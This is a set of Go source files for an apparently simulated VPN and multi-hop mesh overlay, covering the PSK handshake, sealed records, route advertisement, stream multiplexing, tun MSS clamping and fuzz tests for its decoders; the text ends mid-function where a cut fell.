	sess.send(frame(msgData, sess.seal.seal(ipPacket)))
}

// allocIP hands out the next tunnel address.
func (s *Server) allocIP() (inet.Addr, error) {
	for i := 0; i < 1<<(32-s.cfg.TunnelPrefix.Bits); i++ {
		s.nextHost++
		ip := inet.AddrFromUint32(s.cfg.TunnelPrefix.Addr.Uint32() + s.nextHost)
		if !s.cfg.TunnelPrefix.Contains(ip) {
			return inet.Addr{}, fmt.Errorf("vpn: tunnel subnet exhausted")
		}
		if _, taken := s.sessions[ip]; !taken && ip != s.serverTunIP() {
			return ip, nil
		}
	}
	return inet.Addr{}, fmt.Errorf("vpn: tunnel subnet exhausted")
}

// handleMsg advances one session's handshake / data state machine.
func (s *Server) handleMsg(sess *session, msg []byte) {
	if len(msg) == 0 {
		return
	}
	typ, body := msg[0], msg[1:]
	switch typ {
	case msgClientHello:
		// The shared handshakeState keeps hellos idempotent per client nonce
		// (a UDP retransmit gets the SAME server nonce) and detects rekeys (a
		// fresh nonce kills the old transcript; the full auth runs again).
		resp, rekeyed, ok := sess.hs.onHello(s.ip.Kernel(), s.cfg.PSK, body)
		if !ok {
			return
		}
		if rekeyed {
			s.Rekeys++
		}
		sess.send(frame(msgServerHello, resp))
	case msgClientAuth:
		switch sess.hs.onAuth(s.cfg.PSK, body) {
		case authIgnore:
			return
		case authBad:
			s.AuthFailures++
			return
		case authDup:
			// Duplicate (UDP retry): the client may have missed the IP
			// assignment; resend it under a fresh record sequence.
			assign := make([]byte, 5)
			copy(assign[:4], sess.tunnelIP[:])
			assign[4] = byte(s.cfg.TunnelPrefix.Bits)
			sess.send(frame(msgAssignIP, sess.seal.seal(assign)))
			return
		}
		sess.seal, sess.open = responderKeys(s.cfg.PSK, sess.hs.nonceC, sess.hs.nonceS)
		// A rekeying session keeps its reserved tunnel address so the
		// client's routes and inner connections survive the key change.
		ip := sess.tunnelIP
		if ip == (inet.Addr{}) {
			var err error
			ip, err = s.allocIP()
			if err != nil {
				return
			}
			sess.tunnelIP = ip
			s.sessions[ip] = sess
		}
		s.Handshakes++
		assign := make([]byte, 5)
		copy(assign[:4], ip[:])
		assign[4] = byte(s.cfg.TunnelPrefix.Bits)
		sess.send(frame(msgAssignIP, sess.seal.seal(assign)))
	case msgData:
		if !sess.hs.authed {
			return
		}
		inner, err := sess.open.open(body)
		if err != nil {
			return // counted in opener
		}
		s.PacketsIn++
		s.tun.deliver(inner)
	case msgKeepalive:
		if !sess.hs.authed {
			return
		}
		if _, err := sess.open.open(body); err != nil {
			return // forged or stale probe; counted in opener
		}
		s.Keepalives++
		sess.send(frame(msgKeepalive, sess.seal.seal(nil)))
	}
}

// NewServerTCP starts a TCP-carrier endpoint on the host's stacks.
func NewServerTCP(ip *ipv4.Stack, t *tcp.Stack, cfg ServerConfig) (*Server, error) {
	s := newServer(ip, cfg)
	l, err := t.Listen(s.cfg.ListenPort)
	if err != nil {
		return nil, err
	}
	l.OnAccept = func(c *tcp.Conn) {
		sess := &session{}
		sess.send = func(msg []byte) { _ = c.Write(msg) }
		c.OnData = func(b []byte) {
			for _, m := range sess.stream.push(b) {
				s.handleMsg(sess, m)
			}
		}
		c.OnClose = func(err error) {
			if sess.hs.authed {
				delete(s.sessions, sess.tunnelIP)
			}
		}
	}
	return s, nil
}

// NewServerUDP starts a UDP-carrier endpoint.
func NewServerUDP(ip *ipv4.Stack, u *udp.Stack, cfg ServerConfig) (*Server, error) {
	s := newServer(ip, cfg)
	sock, err := u.Bind(s.cfg.ListenPort)
	if err != nil {
		return nil, err
	}
	byPeer := make(map[inet.HostPort]*session)
	sock.SetReceiver(func(src inet.HostPort, payload []byte) {
		sess, ok := byPeer[src]
		if !ok {
			sess = &session{}
			peer := src
			sess.send = func(msg []byte) {
				// UDP carrier: strip stream framing, one message per
				// datagram (keep the type byte).
				_ = sock.SendTo(peer, msg[2:])
			}
			byPeer[src] = sess
		}
		s.handleMsg(sess, payload)
	})
	return s, nil
}
