package vpn

import (
	"bytes"
	"testing"
)

func fuzzKeys() ([16]byte, []byte) {
	var enc [16]byte
	copy(enc[:], "0123456789abcdef")
	return enc, []byte("mac-key-for-fuzzing")
}

// FuzzRecordOpen drives the record layer: arbitrary bytes must never panic
// the opener, and a legitimately sealed plaintext must open to itself.
func FuzzRecordOpen(f *testing.F) {
	enc, mac := fuzzKeys()
	s := newSealer(enc, mac)
	f.Add(s.seal([]byte("inner ip packet")))
	f.Add(s.seal(nil))
	f.Add([]byte{})
	f.Add(bytes.Repeat([]byte{0xee}, 8+macLen))

	f.Fuzz(func(t *testing.T, record []byte) {
		enc, mac := fuzzKeys()
		o := newOpener(enc, mac)
		// Arbitrary input: must not panic; anything accepted re-seals to an
		// openable record.
		if pt, err := o.open(record); err == nil {
			s := newSealer(enc, mac)
			o2 := newOpener(enc, mac)
			pt2, err := o2.open(s.seal(pt))
			if err != nil || !bytes.Equal(pt, pt2) {
				t.Fatalf("re-seal of accepted record failed: %v", err)
			}
		}
		// Seal/open round trip of the raw input as plaintext.
		s := newSealer(enc, mac)
		o2 := newOpener(enc, mac)
		pt, err := o2.open(s.seal(record))
		if err != nil || !bytes.Equal(pt, record) {
			t.Fatalf("seal/open round-trip failed: %v", err)
		}
		// A sealed record replayed to the same opener must be rejected.
		sealed := s.seal(record)
		if _, err := o2.open(sealed); err != nil {
			t.Fatalf("fresh record rejected: %v", err)
		}
		if _, err := o2.open(sealed); err != ErrReplay {
			t.Fatalf("replayed record not rejected: %v", err)
		}
	})
}

// FuzzFrameStream drives the TCP-carrier reassembler: arbitrary stream bytes
// must never panic, and a framed message split at any point must reassemble
// to exactly its body.
func FuzzFrameStream(f *testing.F) {
	f.Add(frame(msgData, []byte("record bytes")), 3)
	f.Add(frame(msgClientHello, nil), 0)
	f.Add([]byte{0xff, 0xff, 1}, 1)
	f.Fuzz(func(t *testing.T, b []byte, split int) {
		var fs frameStream
		var whole [][]byte
		if split < 0 {
			split = -split
		}
		if len(b) > 0 {
			split %= len(b) + 1
		} else {
			split = 0
		}
		whole = append(whole, fs.push(b[:split])...)
		whole = append(whole, fs.push(b[split:])...)

		var fs2 frameStream
		unsplit := fs2.push(b)
		if len(whole) != len(unsplit) {
			t.Fatalf("split delivery changed message count: %d != %d", len(whole), len(unsplit))
		}
		for i := range whole {
			if !bytes.Equal(whole[i], unsplit[i]) {
				t.Fatalf("split delivery changed message %d", i)
			}
		}

		// Round trip a frame built from the input as body (bounded by the
		// 16-bit length prefix).
		body := b
		if len(body) > 0xfffe {
			body = body[:0xfffe]
		}
		var fs3 frameStream
		msgs := fs3.push(frame(msgData, body))
		if len(msgs) != 1 || msgs[0][0] != msgData || !bytes.Equal(msgs[0][1:], body) {
			t.Fatal("frame/push round-trip failed")
		}
	})
}
