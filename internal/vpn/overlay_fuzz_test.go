package vpn

import (
	"bytes"
	"testing"

	"repro/internal/inet"
)

// Fuzz targets for the overlay control-plane decoders: these parse bytes
// that crossed a link from a merely PSK-authenticated neighbour, which in
// the threat model may still be buggy or compromised — decoders must never
// panic, and everything they accept must be canonical (re-encoding an
// accepted input reproduces it byte for byte, so no two wire forms alias
// the same route or stream).

// FuzzRouteAdDecode drives the route advertisement decoder.
func FuzzRouteAdDecode(f *testing.F) {
	f.Add(encodeRouteAd(nil))
	f.Add(encodeRouteAd([]adEntry{{prefix: inet.MustParsePrefix("10.0.0.0/24"), hops: 2}}))
	f.Add(encodeRouteAd([]adEntry{
		{prefix: inet.MustParsePrefix("198.18.0.44/32"), hops: 1},
		{prefix: inet.MustParsePrefix("198.18.0.44/32"), hops: hopsUnreachable},
	}))
	f.Add([]byte{10, 0, 0, 1, 24, 2})  // host bits set: must be rejected
	f.Add([]byte{10, 0, 0, 0, 33, 2})  // bits > 32: must be rejected
	f.Add([]byte{10, 0, 0, 0, 24})     // truncated entry

	f.Fuzz(func(t *testing.T, body []byte) {
		entries, ok := decodeRouteAd(body)
		if !ok {
			return
		}
		for _, e := range entries {
			if e.prefix.Bits < 0 || e.prefix.Bits > 32 {
				t.Fatalf("accepted bits %d", e.prefix.Bits)
			}
			if !e.prefix.Contains(e.prefix.Addr) {
				t.Fatalf("accepted non-canonical prefix %v", e.prefix)
			}
			if e.hops < 0 || e.hops > hopsUnreachable {
				t.Fatalf("accepted hops %d", e.hops)
			}
		}
		if re := encodeRouteAd(entries); !bytes.Equal(re, body) {
			t.Fatalf("accepted ad is not canonical: %x re-encodes to %x", body, re)
		}
	})
}

// FuzzStreamFrameDecode drives the stream-mux frame decoders: the open
// header and the id prefix shared by data/close/reset.
func FuzzStreamFrameDecode(f *testing.F) {
	f.Add(encodeStreamOpen(1, inet.MustParseHostPort("198.18.0.44:4789"), "alice"))
	f.Add(encodeStreamOpen(2, inet.MustParseHostPort("10.0.0.1:80"), ""))
	f.Add([]byte{0, 0, 0, 7, 1, 2, 3, 4}) // id + payload (data frame shape)
	f.Add([]byte{0, 0, 0})                // shorter than any id
	f.Add(append(encodeStreamOpen(3, inet.HostPort{}, "x"), 0xff)) // trailing junk

	f.Fuzz(func(t *testing.T, body []byte) {
		if id, dst, origin, ok := decodeStreamOpen(body); ok {
			if len(origin) > maxOriginLen {
				t.Fatalf("accepted %d-byte origin", len(origin))
			}
			if re := encodeStreamOpen(id, dst, origin); !bytes.Equal(re, body) {
				t.Fatalf("accepted open is not canonical: %x re-encodes to %x", body, re)
			}
		}
		if id, payload, ok := streamID(body); ok {
			if len(payload) != len(body)-4 {
				t.Fatalf("payload length %d from %d-byte body", len(payload), len(body))
			}
			_ = id
		} else if len(body) >= 4 {
			t.Fatalf("rejected a %d-byte id prefix", len(body))
		}
	})
}
