package vpn

import (
	"errors"

	"repro/internal/inet"
	"repro/internal/ipv4"
	"repro/internal/sim"
	"repro/internal/tcp"
)

// The multi-hop mesh overlay (§5's defense generalised): instead of one
// point-to-point tunnel, a client reaches the trusted endpoint through a
// mesh of relay and exit nodes. Every adjacent pair of nodes runs the SAME
// PSK handshake, sealed records, keepalive/DPD, and seeded-backoff redial
// machinery as the end-to-end tunnel (peer.go), so each hop individually
// detects tampering and heals. On top of the per-hop links sit:
//
//   - flood-based route advertisement (route.go) with longest-prefix-match
//     forwarding and hop-count metrics, so a dead relay withdraws its routes
//     and traffic fails over to an alternate chain;
//   - virtual streams (stream.go) multiplexed over the links, so the
//     end-to-end tunnel carrier rides the overlay and survives re-routing.
//
// Trust model: relays are NOT trusted. A stream's payload crosses them as
// sealed end-to-end tunnel records, so a hostile first hop (the rogue-AP
// scenario of the paper, E13) sees only opaque bytes and the exit sees only
// the previous hop plus an origin pseudonym — never the client's address.

// OverlayPort is the default overlay link service port (the end-to-end
// tunnel keeps DefaultPort; relays carry it inside streams).
const OverlayPort inet.Port = 4790

// Role determines what a node will do for others.
type Role int

// Roles. Clients originate streams but never provide transit; relays
// forward streams and flood routes; exits additionally terminate streams
// for their advertised prefixes (hosting services or dialling out).
const (
	RoleClient Role = iota
	RoleRelay
	RoleExit
)

// String names the role.
func (r Role) String() string {
	switch r {
	case RoleRelay:
		return "relay"
	case RoleExit:
		return "exit"
	default:
		return "client"
	}
}

// NodeConfig configures one overlay node.
type NodeConfig struct {
	// Name is the node's origin pseudonym: the only identity a stream
	// carries end to end. It must not encode the client's address.
	Name string
	Role Role
	// PSK authenticates every link this node forms (requirement 2 applies
	// per hop: keys are arranged out of band, never over the mesh).
	PSK []byte
	// ListenPort defaults to OverlayPort.
	ListenPort inet.Port
	// Advertise lists the prefixes this node terminates (exits).
	Advertise []inet.Prefix
	// MaxHops caps route metrics (default DefaultMaxHops).
	MaxHops int

	// Per-link liveness and healing, with the same defaults as the
	// end-to-end ClientConfig.
	Keepalive        sim.Time
	PeerTimeout      sim.Time
	HandshakeTimeout sim.Time
	BackoffBase      sim.Time
	BackoffMax       sim.Time
}

func (c *NodeConfig) fill() {
	if c.ListenPort == 0 {
		c.ListenPort = OverlayPort
	}
	if c.MaxHops == 0 {
		c.MaxHops = DefaultMaxHops
	}
}

// Overlay errors.
var (
	// ErrNoRoute: no reachable overlay route covers the destination.
	ErrNoRoute = errors.New("vpn: no overlay route to destination")
	// ErrStreamReset: the far side or a relay reset the stream.
	ErrStreamReset = errors.New("vpn: overlay stream reset")
	// ErrLinkDown: the link carrying the stream died.
	ErrLinkDown = errors.New("vpn: overlay link down")
)

// Node is one overlay participant on a host.
type Node struct {
	cfg NodeConfig
	ip  *ipv4.Stack
	t   *tcp.Stack

	links   []*link
	nextSeq int
	rt      routeTable

	handlers map[inet.Port]func(*Stream)

	// MangleForward, when set on a relay, rewrites every forwarded stream
	// payload — the E13 hostile-relay hook. The overlay does not (and must
	// not need to) detect this: the end-to-end tunnel's record MACs do.
	MangleForward func(payload []byte) []byte

	// Counters.
	RouteAdsIn, RouteAdsOut uint64
	RouteChanges            uint64
	StreamsOpened           uint64 // streams this node originated
	StreamsAccepted         uint64 // streams terminated locally
	StreamsForwarded        uint64 // transit streams relayed
	StreamsRefused          uint64 // opens rejected (no route / no transit)
	FramesForwarded         uint64
	StreamResets            uint64
}

// NewNode builds an overlay node on a host's stacks. Call Listen to accept
// inbound links and AddPeer to dial outbound ones.
func NewNode(ip *ipv4.Stack, t *tcp.Stack, cfg NodeConfig) *Node {
	cfg.fill()
	return &Node{
		cfg: cfg, ip: ip, t: t,
		rt:       newRouteTable(),
		handlers: make(map[inet.Port]func(*Stream)),
	}
}

// Name reports the node's origin pseudonym.
func (n *Node) Name() string { return n.cfg.Name }

// Handle registers a local stream acceptor for a destination port on this
// node's advertised prefixes.
func (n *Node) Handle(port inet.Port, h func(*Stream)) { n.handlers[port] = h }

// RouteDump renders the routing table deterministically.
func (n *Node) RouteDump() string { return n.rt.dump() }

// ReachablePrefixes reports the currently routable prefixes (beyond the
// node's own) in first-learned order.
func (n *Node) ReachablePrefixes() []inet.Prefix { return n.rt.reachable() }

// LinksUp counts established links.
func (n *Node) LinksUp() int {
	up := 0
	for _, l := range n.links {
		if l.p.state == stateUp {
			up++
		}
	}
	return up
}

// LinkReconnects sums redial attempts across dialed links — the healing
// effort the chaos schedule forced on this node.
func (n *Node) LinkReconnects() uint64 {
	var s uint64
	for _, l := range n.links {
		s += l.p.Reconnects
	}
	return s
}

// LinkPeerTimeouts sums dead-peer declarations across links.
func (n *Node) LinkPeerTimeouts() uint64 {
	var s uint64
	for _, l := range n.links {
		s += l.p.PeerTimeouts
	}
	return s
}

// PeerAddrs lists the addresses of this node's dialed neighbours in AddPeer
// order (deduplicated). ConnectOverlay pins these to the physical network so
// the full-tunnel routes can never capture the mesh's own carriers.
func (n *Node) PeerAddrs() []inet.Addr {
	var out []inet.Addr
	seen := make(map[inet.Addr]bool)
	for _, l := range n.links {
		if l.dial == (inet.HostPort{}) || seen[l.dial.Addr] {
			continue
		}
		seen[l.dial.Addr] = true
		out = append(out, l.dial.Addr)
	}
	return out
}

// TamperDetected sums per-hop record MAC failures across this node's links.
func (n *Node) TamperDetected() uint64 {
	var s uint64
	for _, l := range n.links {
		s += l.p.TamperDetected()
	}
	return s
}

// link is one overlay adjacency: a peer state machine bound to a TCP
// carrier, plus the streams multiplexed over it.
type link struct {
	n    *Node
	seq  int
	p    *peer
	dial inet.HostPort // zero on accepted links
	conn *tcp.Conn

	streams map[uint32]*linkStream
	order   []uint32 // stream ids in creation order (deterministic teardown)
	nextID  uint32   // odd on the dialing side, even on the accepting side
}

func (n *Node) linkConfig() linkConfig {
	return linkConfig{
		psk:              n.cfg.PSK,
		handshakeTimeout: n.cfg.HandshakeTimeout,
		keepalive:        n.cfg.Keepalive,
		peerTimeout:      n.cfg.PeerTimeout,
		backoffBase:      n.cfg.BackoffBase,
		backoffMax:       n.cfg.BackoffMax,
	}
}

// AddPeer dials a persistent link to a neighbour. The link heals itself: if
// the carrier dies or the neighbour goes silent, it backs off and redials
// forever (the mesh may heal arbitrarily later).
func (n *Node) AddPeer(addr inet.HostPort) {
	l := &link{
		n: n, seq: n.nextSeq, dial: addr,
		streams: make(map[uint32]*linkStream), nextID: 1,
	}
	n.nextSeq++
	l.p = newPeer(n.ip.Kernel(), n.linkConfig(), true)
	l.p.onUp = func() { n.linkUp(l) }
	l.p.onDown = func() { n.linkDown(l) }
	l.p.onFrame = func(typ byte, body []byte) { n.handleFrame(l, typ, body) }
	l.p.redial = func() { l.redial() }
	n.links = append(n.links, l)
	l.redial()
}

// Listen accepts inbound links on the overlay port.
func (n *Node) Listen() error {
	ln, err := n.t.Listen(n.cfg.ListenPort)
	if err != nil {
		return err
	}
	ln.OnAccept = func(conn *tcp.Conn) { n.acceptLink(conn) }
	return nil
}

// acceptLink builds the responding side of a link. Accepted links are
// ephemeral: the dialer owns recovery, so when this one dies it is removed
// and the dialer's replacement carrier arrives as a fresh link.
func (n *Node) acceptLink(conn *tcp.Conn) {
	l := &link{
		n: n, seq: n.nextSeq,
		streams: make(map[uint32]*linkStream), nextID: 2,
	}
	n.nextSeq++
	l.p = newPeer(n.ip.Kernel(), n.linkConfig(), false)
	l.p.onUp = func() { n.linkUp(l) }
	l.p.onDown = func() { n.linkDown(l) }
	l.p.onFrame = func(typ byte, body []byte) { n.handleFrame(l, typ, body) }
	n.links = append(n.links, l)
	l.attach(conn)
	l.p.armTimeout()
}

// redial replaces the carrier on a dialed link.
func (l *link) redial() {
	p := l.p
	// Orphan the previous carrier before killing it so its late callbacks
	// (stale generation) cannot re-enter the machinery.
	p.gen++
	if l.conn != nil {
		l.conn.Abort()
		l.conn = nil
	}
	p.rx = frameStream{}
	conn, err := l.n.t.Dial(l.dial)
	if err != nil {
		p.retry()
		return
	}
	l.attach(conn)
	p.armTimeout()
}

// attach binds a TCP carrier to the link's peer state machine.
func (l *link) attach(conn *tcp.Conn) {
	l.conn = conn
	p := l.p
	gen := p.gen
	p.send = func(msg []byte) { _ = conn.Write(msg) }
	p.abort = conn.Abort
	if p.dialer {
		conn.OnConnect = func() {
			if gen != p.gen {
				return
			}
			p.begin()
		}
	}
	conn.OnData = func(b []byte) {
		if gen != p.gen {
			return
		}
		for _, m := range p.rx.push(b) {
			p.handleMsg(m)
		}
	}
	conn.OnClose = func(err error) {
		if gen != p.gen || p.state == stateDown {
			return
		}
		if p.state == stateUp || !p.dialer {
			// Established link (either side) or any responder carrier: the
			// peer is already known dead, no need to wait out PeerTimeout.
			p.peerDead()
			return
		}
		// Dialer mid-handshake: back off and redial.
		p.state = stateIdle
		p.gen++
		p.retry()
	}
}

// linkBySeq resolves a link sequence number (nil if gone).
func (n *Node) linkBySeq(seq int) *link {
	for _, l := range n.links {
		if l.seq == seq {
			return l
		}
	}
	return nil
}

// removeLink drops a dead accepted link from the node.
func (n *Node) removeLink(dead *link) {
	for i, l := range n.links {
		if l == dead {
			n.links = append(n.links[:i], n.links[i+1:]...)
			return
		}
	}
}

// linkUp runs when a link establishes (first time or after healing): the
// fresh neighbour gets a full routing advertisement.
func (n *Node) linkUp(l *link) {
	n.sendFullAd(l)
}

// linkDown runs when a link dies after being up: every stream it carried is
// reset (propagating along forwarding pairs so nothing hangs mid-chain), its
// learned routes are withdrawn, and the change floods to the surviving
// neighbours — which is what makes failover happen.
func (n *Node) linkDown(l *link) {
	n.resetLinkStreams(l, ErrLinkDown)
	changed := n.rt.dropLink(l.seq)
	if !l.p.dialer {
		n.removeLink(l)
	}
	if len(changed) > 0 {
		n.RouteChanges += uint64(len(changed))
		n.floodPrefixes(changed, nil)
	}
}

// handleFrame dispatches one sealed overlay frame from a link.
func (n *Node) handleFrame(l *link, typ byte, body []byte) {
	switch typ {
	case ovRouteAdv:
		n.handleRouteAd(l, body)
	case ovStreamOpen:
		n.handleStreamOpen(l, body)
	case ovStreamData:
		n.handleStreamData(l, body)
	case ovStreamClose:
		n.handleStreamClose(l, body)
	case ovStreamReset:
		n.handleStreamReset(l, body)
	}
}

// isLocalDst reports whether this node terminates dst.
func (n *Node) isLocalDst(dst inet.Addr) bool {
	for _, p := range n.cfg.Advertise {
		if p.Contains(dst) {
			return true
		}
	}
	return false
}

// handleRouteAd folds a neighbour's advertisement into the table and floods
// any resulting best-route changes onward.
func (n *Node) handleRouteAd(l *link, body []byte) {
	entries, ok := decodeRouteAd(body)
	if !ok {
		return
	}
	n.RouteAdsIn++
	var changed []inet.Prefix
	for _, e := range entries {
		if n.isLocalDst(e.prefix.Addr) {
			continue // our own prefixes are never learned from the mesh
		}
		hops := e.hops
		if hops >= n.cfg.MaxHops {
			hops = n.cfg.MaxHops // any over-limit metric is a withdrawal
		}
		if n.rt.update(e.prefix, l.seq, hops, n.cfg.MaxHops) {
			changed = append(changed, e.prefix)
		}
	}
	if len(changed) > 0 {
		n.RouteChanges += uint64(len(changed))
		n.floodPrefixes(changed, l)
	}
}

// adFor builds the advertisement entry for one prefix toward one neighbour:
// local prefixes at 1 hop, learned ones at best+1, and poisoned reverse
// (unreachable) back toward the prefix's own next hop so two nodes cannot
// bounce a dead route between each other.
func (n *Node) adFor(p inet.Prefix, to *link) adEntry {
	for _, lp := range n.cfg.Advertise {
		if lp == p {
			return adEntry{prefix: p, hops: 1}
		}
	}
	b, ok := n.rt.best[p]
	if !ok || b.linkSeq == to.seq || b.hops+1 >= n.cfg.MaxHops {
		return adEntry{prefix: p, hops: hopsUnreachable}
	}
	return adEntry{prefix: p, hops: b.hops + 1}
}

// sendFullAd advertises everything this node can reach to one neighbour.
// Clients advertise nothing: they must never draw transit traffic.
func (n *Node) sendFullAd(l *link) {
	if n.cfg.Role == RoleClient {
		return
	}
	var entries []adEntry
	for _, p := range n.cfg.Advertise {
		entries = append(entries, adEntry{prefix: p, hops: 1})
	}
	for _, p := range n.rt.order {
		if e := n.adFor(p, l); e.hops != hopsUnreachable {
			entries = append(entries, e)
		}
	}
	if len(entries) == 0 {
		return
	}
	n.RouteAdsOut++
	l.p.sendFrame(ovRouteAdv, encodeRouteAd(entries))
}

// floodPrefixes pushes changed prefixes to every up link except the one the
// change arrived on (the neighbour already knows; poisoned reverse covers
// the loop case for everyone else).
func (n *Node) floodPrefixes(prefixes []inet.Prefix, from *link) {
	if n.cfg.Role == RoleClient {
		return
	}
	for _, l := range n.links {
		if l == from || l.p.state != stateUp {
			continue
		}
		entries := make([]adEntry, 0, len(prefixes))
		for _, p := range prefixes {
			entries = append(entries, n.adFor(p, l))
		}
		n.RouteAdsOut++
		l.p.sendFrame(ovRouteAdv, encodeRouteAd(entries))
	}
}

// forwardLink picks the outbound link for dst: longest-prefix match, then
// the link must actually be up.
func (n *Node) forwardLink(dst inet.Addr) (*link, error) {
	seq, ok := n.rt.lookup(dst)
	if !ok {
		return nil, ErrNoRoute
	}
	l := n.linkBySeq(seq)
	if l == nil || l.p.state != stateUp {
		return nil, ErrNoRoute
	}
	return l, nil
}
