package vpn

import (
	"repro/internal/arp"
	"repro/internal/ethernet"
	"repro/internal/inet"
	"repro/internal/pkt"
)

// TunnelMTU is the tun device MTU: small enough that a full inner packet
// plus record and carrier overhead fits the outer 1500-byte MTU without IP
// fragmentation (which the simulation does not model).
const TunnelMTU = 1400

// InnerMSS is the TCP MSS hosts should use when their traffic rides the
// tunnel (TunnelMTU − 40 bytes of inner headers).
const InnerMSS = TunnelMTU - 40

// tunNIC is a virtual point-to-point interface. The IP stack attaches to it
// like any NIC; outbound IP packets go to the outbound callback (which
// encrypts them into the tunnel) and inbound decrypted packets are injected
// through deliver. ARP requests are answered locally with a synthetic peer
// MAC, since a tunnel has no real link layer.
type tunNIC struct {
	hw       ethernet.MAC
	recv     ethernet.Receiver
	outbound func(ipPacket []byte)
}

// peerMAC is the synthetic MAC every tun resolution returns.
var peerMAC = ethernet.MAC{0x02, 0xf0, 0x0d, 0x00, 0x00, 0x01}

func newTunNIC(hw ethernet.MAC, outbound func([]byte)) *tunNIC {
	return &tunNIC{hw: hw, outbound: outbound}
}

func (t *tunNIC) HWAddr() ethernet.MAC            { return t.hw }
func (t *tunNIC) MTU() int                        { return TunnelMTU }
func (t *tunNIC) SetReceiver(r ethernet.Receiver) { t.recv = r }

func (t *tunNIC) Send(dst ethernet.MAC, typ ethernet.EtherType, payload []byte) {
	switch typ {
	case ethernet.TypeARP:
		// Answer any ARP request instantly so the stack can "resolve"
		// next hops over the tunnel.
		req, err := arp.Unmarshal(payload)
		if err != nil || req.Op != arp.OpRequest || t.recv == nil {
			return
		}
		resp := arp.Packet{
			Op:       arp.OpReply,
			SenderHW: peerMAC, SenderIP: req.TargetIP,
			TargetHW: req.SenderHW, TargetIP: req.SenderIP,
		}
		t.recv(ethernet.Frame{Dst: t.hw, Src: peerMAC, Type: ethernet.TypeARP, Payload: resp.Marshal()})
	case ethernet.TypeIPv4:
		if t.outbound != nil {
			t.outbound(clampMSS(payload, InnerMSS))
		}
	}
}

// SendBuf sends a pooled buffer's view through Send. Both Send branches
// consume the payload synchronously (the ARP reply is synthesised from the
// request and outbound encrypts the packet into a sealed record), so the
// buffer can be released as soon as Send returns.
func (t *tunNIC) SendBuf(dst ethernet.MAC, typ ethernet.EtherType, pb *pkt.Buf) {
	t.Send(dst, typ, pb.Bytes())
	pb.Release()
}

// deliver injects a decrypted inner IP packet into the host stack as if it
// arrived on the tun interface.
func (t *tunNIC) deliver(ipPacket []byte) {
	if t.recv != nil {
		ipPacket = clampMSS(ipPacket, InnerMSS)
		t.recv(ethernet.Frame{Dst: t.hw, Src: peerMAC, Type: ethernet.TypeIPv4, Payload: ipPacket})
	}
}

// clampMSS rewrites the MSS option of TCP SYN packets crossing the tunnel
// down to max — OpenVPN's --mssfix. Without it, an uninformed far endpoint
// (a web server with a 1460 MSS) would send inner segments too large to
// encapsulate, and with no IP fragmentation they would be lost.
func clampMSS(ipPacket []byte, max int) []byte {
	const ipHdr = 20
	if len(ipPacket) < ipHdr+20 || ipPacket[0]>>4 != 4 || ipPacket[9] != 6 {
		return ipPacket // not TCP/IPv4
	}
	ihl := int(ipPacket[0]&0x0f) * 4
	if len(ipPacket) < ihl+20 {
		return ipPacket
	}
	tcpSeg := ipPacket[ihl:]
	if tcpSeg[13]&0x02 == 0 { // not SYN
		return ipPacket
	}
	dataOff := int(tcpSeg[12]>>4) * 4
	if dataOff < 20 || dataOff > len(tcpSeg) {
		return ipPacket
	}
	opts := tcpSeg[20:dataOff]
	changed := false
	for i := 0; i < len(opts); {
		switch opts[i] {
		case 0:
			i = len(opts)
		case 1:
			i++
		default:
			if i+1 >= len(opts) || int(opts[i+1]) < 2 || i+int(opts[i+1]) > len(opts) {
				i = len(opts)
				break
			}
			if opts[i] == 2 && opts[i+1] == 4 {
				v := int(opts[i+2])<<8 | int(opts[i+3])
				if v > max {
					opts[i+2], opts[i+3] = byte(max>>8), byte(max)
					changed = true
				}
			}
			i += int(opts[i+1])
		}
	}
	if changed {
		fixInnerTCPChecksum(ipPacket, ihl)
	}
	return ipPacket
}

// fixInnerTCPChecksum recomputes a TCP checksum inside a raw IP packet.
func fixInnerTCPChecksum(ipPacket []byte, ihl int) {
	var src, dst inet.Addr
	copy(src[:], ipPacket[12:16])
	copy(dst[:], ipPacket[16:20])
	seg := ipPacket[ihl:]
	seg[16], seg[17] = 0, 0
	sum := inet.PseudoHeaderSum(src, dst, 6, uint16(len(seg)))
	sum = inet.SumBytes(sum, seg)
	cs := inet.FinishChecksum(sum)
	seg[16], seg[17] = byte(cs>>8), byte(cs)
}

var _ ethernet.NIC = (*tunNIC)(nil)

// frameStream reassembles length-prefixed messages from a TCP byte stream:
// len(2, big-endian) || type(1) || body.
type frameStream struct {
	buf []byte
}

// push appends stream data and returns any complete messages.
func (f *frameStream) push(b []byte) [][]byte {
	f.buf = append(f.buf, b...)
	var msgs [][]byte
	for {
		if len(f.buf) < 2 {
			return msgs
		}
		n := int(f.buf[0])<<8 | int(f.buf[1])
		if len(f.buf) < 2+n {
			return msgs
		}
		msg := append([]byte(nil), f.buf[2:2+n]...)
		f.buf = f.buf[2+n:]
		msgs = append(msgs, msg)
	}
}

// frame builds a length-prefixed message.
func frame(typ byte, body []byte) []byte {
	n := 1 + len(body)
	out := make([]byte, 2+n)
	out[0], out[1] = byte(n>>8), byte(n)
	out[2] = typ
	copy(out[3:], body)
	return out
}
