package vpn

import (
	"encoding/binary"
	"sort"

	"repro/internal/inet"
)

// Virtual streams multiplexed over overlay links. A stream is opened toward
// a destination address+port, relayed hop by hop along the routing table,
// and terminated either by a registered handler on the destination node or
// by an exit dialling the real TCP service. Each direction can half-close
// (ovStreamClose, like a FIN); ovStreamReset tears both directions down at
// once and propagates along the forwarding chain, so when any hop dies every
// dependent stream fails fast instead of hanging.
//
// Frames ride inside the per-link sealed records (peer.sendFrame), so a
// relay sees stream payloads — which is why the end-to-end tunnel seals its
// own records before handing them to a stream. Stream IDs are per link:
// the side that dialed the link allocates odd IDs, the accepting side even,
// so simultaneous opens cannot collide.
const (
	ovRouteAdv    byte = 0x11
	ovStreamOpen  byte = 0x12 // id(4) dstAddr(4) dstPort(2) originLen(1) origin
	ovStreamData  byte = 0x13 // id(4) payload
	ovStreamClose byte = 0x14 // id(4)  half-close: no more data this direction
	ovStreamReset byte = 0x15 // id(4)  abort both directions
)

// maxOriginLen bounds the origin pseudonym.
const maxOriginLen = 64

// encodeStreamOpen packs an ovStreamOpen body.
func encodeStreamOpen(id uint32, dst inet.HostPort, origin string) []byte {
	if len(origin) > maxOriginLen {
		origin = origin[:maxOriginLen]
	}
	out := make([]byte, 11+len(origin))
	binary.BigEndian.PutUint32(out[0:4], id)
	copy(out[4:8], dst.Addr[:])
	binary.BigEndian.PutUint16(out[8:10], uint16(dst.Port))
	out[10] = byte(len(origin))
	copy(out[11:], origin)
	return out
}

// decodeStreamOpen parses an ovStreamOpen body.
func decodeStreamOpen(body []byte) (id uint32, dst inet.HostPort, origin string, ok bool) {
	if len(body) < 11 {
